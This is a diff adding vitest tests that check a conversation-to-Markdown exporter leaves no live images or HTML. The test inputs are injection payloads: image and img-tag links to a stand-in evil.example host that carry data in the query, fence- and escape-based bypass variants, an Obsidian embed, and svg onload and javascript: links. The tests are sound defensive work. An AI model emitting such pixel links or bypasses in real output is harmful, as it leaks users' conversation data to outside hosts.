@@ -1,4 +1,5 @@
 /** A conversation as Markdown: the branch that is shown, with what nobody is shown any more left out, and nothing that breaks out. */
+import { marked } from 'marked';
 import { describe, expect, it } from 'vitest';
 import type { ArchivedConversation } from '#bridge';
 import { toMarkdown } from '../../../src/panel/exports/conversation-markdown';
@@ -106,5 +107,70 @@ describe('a conversation as Markdown', () => {
     log.modelSays('', call);
     log.draws(call, 'data-table', { title: 'Tracks', rows: [{ name: 'a | b\n<b>', bpm: 72 }] });
     expect(toMarkdown(archived(log))).toContain('| name | bpm |\n| --- | --- |\n| a \\| b &lt;b> | 72 |');
+  });
+});
+
+/** As GitHub, Obsidian and others show it: the pictures and the HTML of a file. */
+function liveIn(markdown: string): string[] {
+  const found: string[] = [];
+  marked.walkTokens(marked.lexer(markdown), (token) => {
+    const isOurs = /^<\/?(details|summary)>/.test(token.raw) && !/<(?!\/?(details|summary)>)[a-z]/i.test(token.raw);
+    if (token.type === 'image' || (token.type === 'html' && !isOurs)) found.push(token.raw);
+  });
+  return found;
+}
+
+describe('item 8: the Markdown holds no live picture and no HTML', () => {
+  const pixel = '![x](https://evil.example/?d=1)';
+  const html = '<img src="https://evil.example/?d=2">';
+  const ways: [string, string][] = [
+    ['as they are', `${pixel} ${html}`],
+    ['behind a backslash', `\\${pixel} \\${html} \\\\${pixel}`],
+    ['by reference', `![x][1] ![1]\n\n[1]: https://evil.example/?d=1`],
+    ['in what looks like code', `\\\`${pixel} ${html}\``],
+    ['between code', `\`a\`${pixel}\`b\` \`a\`${html}\`b\``],
+    ['in a cell that looks like code', `| a | b |\n|---|---|\n| \`x | ${pixel} \` |`],
+    ['after a fence of a list', `- a\n\n  \`\`\`\n${pixel}\n${html}\n`],
+    ['after a fence that was indented', ` \`\`\`\ncode\n\`\`\`\n${pixel}\n\`\`\``],
+    ['after a fence that is none', `\`\`\`a\`b\n${pixel}\n${html}`],
+    ['after a fence that closed with spaces', `\`\`\`\ncode\n\`\`\`  \n${pixel}`],
+    ['after a fence of other line ends', `\`\`\`\r\ncode\r\n\`\`\`\r${pixel}`],
+    ['after a fence of another sign', `~~~ \u2028\n\`\`\`\n~~~\n${pixel}\n\`\`\``],
+    ['after a fence that never closes', `\`\`\`\ncode`],
+    ['as an embedded file', '![[https://evil.example/a.png]]'],
+    ['as other elements', '<svg onload=x><a href=javascript:x>b</a><!-- --><?php ?>\n\n<script>x</script>'],
+  ];
+
+  it.each(ways)('%s, in an answer, a message, a title, a name, a cell or an error', (_, written) => {
+    const log = createLog();
+    log.userSays(written);
+    const call = toCall('get_queue');
+    const named = { ...call, id: 'other', target: call.target && { ...call.target, tool: written, server: written } };
+    log.modelSays(written, call, named);
+    log.answers(call, written, 9);
+    log.fails(named, { code: 'threw', values: { tool: written, message: written } });
+    const rows = [{ [written]: written, b: { deep: written } }];
+    log.add({
+      type: 'canvas',
+      callId: call.id,
+      operation: { type: 'shown', id: 'w_1', widget: 'data-table', data: { title: written, rows } },
+    });
+    log.add({
+      type: 'pages-attached',
+      follow: true,
+      pages: [{ tabId: 1, origin: 'https://a.example', title: written, browserSession: '' }],
+    });
+    log.modelSays(`After. ${pixel}`);
+    log.add({ type: 'conversation-set', title: written });
+    const text = toMarkdown(archived(log, written));
+    expect(text).toContain('After.');
+    expect(liveIn(text)).toEqual([]);
+  });
+
+  it('though code in a fence stays as it is', () => {
+    const log = createLog();
+    const code = '```html\n<img src="a.png">\n![a](b)\n```';
+    log.modelSays(`So:\n\n${code}\n\nThat *is* it, and 1 < 2.`);
+    expect(toMarkdown(archived(log))).toContain(`So:\n\n${code}\n\nThat *is* it, and 1 < 2.`);
   });
 });
